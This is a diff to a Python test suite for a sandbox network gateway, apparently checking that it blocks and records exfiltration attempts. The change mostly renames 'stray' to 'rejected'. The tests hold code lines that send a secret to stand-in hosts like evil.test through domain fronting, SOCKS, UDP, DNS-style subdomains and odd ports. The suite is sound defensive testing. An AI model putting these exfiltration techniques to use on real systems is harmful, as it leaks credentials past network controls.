@@ -8,9 +8,9 @@ import pytest
 
 from checks.conformance import test_security as checks
 from harness.checking import Undetermined
-from harness.gateway.record import StrayReason
-from harness.lab import Scene
+from harness.gateway.record import RejectionReason
 from harness.sandbox.protocol import Backend
+from harness.scenarios.rig import Recording
 from tests.gateway.tiny import HOST
 from tests.hostile.attack import attack
 from tests.hostile.leaking import Thief, thief
@@ -34,11 +34,11 @@ def test_a_query_to_a_stranger(spy: Thief) -> None:
     assert "421" in seen.said
     assert seen.reached == {"collect.evil.test:443", "collect.evil.test"}
     assert seen.places == {"first bytes"}
-    stray = seen.stray()
-    assert (stray.host, stray.sni, stray.port, stray.tls) == (
+    rejected = seen.rejected()
+    assert (rejected.host, rejected.sni, rejected.port, rejected.tls) == (
         "collect.evil.test", "collect.evil.test", 443, True,
     )  # fmt: skip
-    assert "GET /c?k=‹api_secret›" in seen.record.evidence(stray).text
+    assert "GET /c?k=‹api_secret›" in seen.record.evidence(rejected).text
 
 
 @attack("posts the secret to a stranger in plain HTTP, packed in base64", meets=REFUSED)
@@ -49,7 +49,7 @@ def test_plain_http_to_a_stranger(spy: Thief) -> None:
     )
     assert seen.reached == {"evil.test:80", "evil.test"}
     assert seen.places == {"first bytes"}
-    assert not seen.stray().tls
+    assert not seen.rejected().tls
 
 
 @attack("talks a protocol of its own to a stranger inside TLS", meets=REFUSED)
@@ -57,7 +57,7 @@ def test_another_protocol(spy: Thief) -> None:
     seen = spy.steals('c = secure("evil.test", port=6379); c.sendall(b"SET k " + SECRET.encode()); c.close()')
     assert "evil.test:6379" in seen.reached
     assert seen.places == {"first bytes"}
-    assert seen.stray().first_bytes.startswith(b"SET k ")
+    assert seen.rejected().first_bytes.startswith(b"SET k ")
 
 
 @attack("opens a WebSocket to a stranger", meets=REFUSED)
@@ -71,7 +71,10 @@ def test_a_websocket_to_a_stranger(spy: Thief) -> None:
 def test_a_socks_proxy(spy: Thief) -> None:
     seen = spy.steals('c = connect("proxy.evil.test", 1080); c.sendall(b"\\x05\\x01\\x00"); print(heard(c))')
     assert seen.reached == {"127.0.0.1:1080", "proxy.evil.test"}
-    assert (seen.stray().reason, seen.stray().first_bytes) == (StrayReason.NOT_HTTP, b"\x05\x01\x00")
+    assert (seen.rejected().reason, seen.rejected().first_bytes) == (
+        RejectionReason.NOT_HTTP,
+        b"\x05\x01\x00",
+    )
 
 
 @attack(
@@ -85,7 +88,7 @@ def test_a_hard_coded_address(spy: Thief) -> None:
         "except OSError as error: print(error)"
     )
     assert seen.reached == {"203.0.113.9:443"}
-    assert (seen.stray().reason, seen.stray().tls) == (StrayReason.NO_NAME, True)
+    assert (seen.rejected().reason, seen.rejected().tls) == (RejectionReason.NO_NAME, True)
 
 
 @attack("connects to an IPv6 address", meets="refused; the address is the evidence")
@@ -102,7 +105,7 @@ def test_ipv6(spy: Thief) -> None:
 def test_a_silent_connection(spy: Thief) -> None:
     seen = spy.steals('c = connect("198.51.100.7", 4444); time.sleep(0.3); c.close()')
     assert seen.reached == {"198.51.100.7:4444"}
-    assert seen.stray().reason is StrayReason.SILENT
+    assert seen.rejected().reason is RejectionReason.SILENT
 
 
 @attack(
@@ -115,7 +118,7 @@ def test_udp(spy: Thief) -> None:
         "time.sleep(0.3)"
     )
     assert seen.reached == {"203.0.113.9:5353"}
-    assert seen.stray().reason is StrayReason.DATAGRAM
+    assert seen.rejected().reason is RejectionReason.DATAGRAM
 
 
 # -- by names
@@ -236,7 +239,7 @@ def test_domain_fronting(spy: Thief) -> None:
     seen = spy.steals('print(ask(secure(HOST), "GET / HTTP/1.1\\nHost: evil.test\\nX-Key: " + SECRET))')
     assert "421" in seen.said
     assert seen.reached == {"evil.test:443"}
-    assert (seen.stray().reason, seen.stray().sni) == (StrayReason.HOST_MISMATCH, HOST)
+    assert (seen.rejected().reason, seen.rejected().sni) == (RejectionReason.HOST_MISMATCH, HOST)
     assert seen.places == {"first bytes"}
 
 
@@ -260,7 +263,7 @@ def test_the_exchange_as_a_proxy(spy: Thief) -> None:
         'get(HOST, "https://%s.evil.test/" % SECRET[:60])'
     )
     assert len(seen.reached) == 2
-    assert {each.reason for each in seen.record.strays()} == {StrayReason.HOST_MISMATCH}
+    assert {each.reason for each in seen.record.rejected()} == {RejectionReason.HOST_MISMATCH}
     assert seen.places >= {"host name", "first bytes"}
 
 
@@ -268,7 +271,7 @@ def test_the_exchange_as_a_proxy(spy: Thief) -> None:
 def test_another_port(spy: Thief) -> None:
     seen = spy.steals('print(get(HOST, "/" + SECRET, port=8443))')
     assert seen.reached == {f"{HOST}:8443"}
-    assert seen.stray().reason is StrayReason.UNDECLARED_PORT
+    assert seen.rejected().reason is RejectionReason.UNDECLARED_PORT
 
 
 @attack(
@@ -286,4 +289,4 @@ def test_a_flood_before_the_leak(spy: Thief) -> None:
     )
     assert not seen.places
     with pytest.raises(Undetermined, match="more than the record holds"):
-        checks.expect_complete([Scene("trade", seen.record)])
+        checks.expect_complete([Recording("trade", seen.record)])
